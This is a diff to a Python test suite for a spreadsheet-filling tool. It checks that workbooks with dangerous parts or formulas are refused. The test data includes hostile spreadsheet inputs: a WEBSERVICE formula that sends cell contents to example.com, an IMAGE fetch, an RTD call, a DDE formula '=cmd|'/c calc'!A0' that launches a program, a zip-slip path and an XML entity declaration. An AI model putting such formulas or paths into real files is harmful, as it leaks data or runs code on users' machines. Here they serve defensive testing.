@@ -423,6 +423,11 @@ _RELS = (
         ("xl/_rels/a.xml.rels", _RELS.format("externalLinkPath", "file:///c:/x.xlsx").encode(), "文件以外"),
         ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", "文件以外"),
         ("xl/connections.xml", b"<connections/>", "文件以外"),
+        (
+            "xl/_rels/a.xml.rels",
+            _RELS.format("aFChunk", "page.htm").replace("External", "Internal").encode(),
+            "文件以外",
+        ),
         ("../../slip.xml", b"<x/>", "打不开"),
         ("xl/worksheets/sheet1.xml", b'<!DOCTYPE x [<!ENTITY y "z">]><worksheet/>', "打不开"),
         ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData>", "打不开"),
@@ -436,6 +441,31 @@ def test_a_harmful_form_is_refused(
     with pytest.raises(Refused, match=words):
         fill(ledger, tmp_path, with_part(workbook, name, content))
     assert not (tmp_path / "filled.xlsx").exists()
+
+
+@pytest.mark.parametrize(
+    ("formula", "is_harmful"),
+    [
+        ('=WEBSERVICE("http://example.com/"&A1)', True),
+        ('=1+_xlfn.image ("http://example.com")', True),
+        ('=RTD("a",,"b")', True),
+        ("=cmd|'/c calc'!A0", True),
+        ('=HYPERLINK("http://example.com","点这里")', False),
+        ('="合计|"&SUM(A2:A3)&"IMAGE(1)"', False),
+        ("=_xlfn.MYIMAGE(1)", False),
+    ],
+)
+def test_a_formula_that_fetches_or_starts_something_is_refused(
+    ledger: Ledger, workbook: openpyxl.Workbook, tmp_path: Path, formula: str, is_harmful: bool
+) -> None:
+    workbook.active["A1"], workbook.active["C9"] = "〔年度〕", formula
+    workbook.save(tmp_path / "form.xlsx")
+    content = (tmp_path / "form.xlsx").read_bytes()
+    if not is_harmful:
+        fill(ledger, tmp_path, content)
+        return
+    with pytest.raises(Refused, match="文件以外"):
+        fill(ledger, tmp_path, content)
 
 
 @pytest.mark.parametrize("content", [b"", b"\xd0\xcf\x11\xe0" + b"x" * 600, b"%PDF-1.7", b"PK\x03\x04broken"])
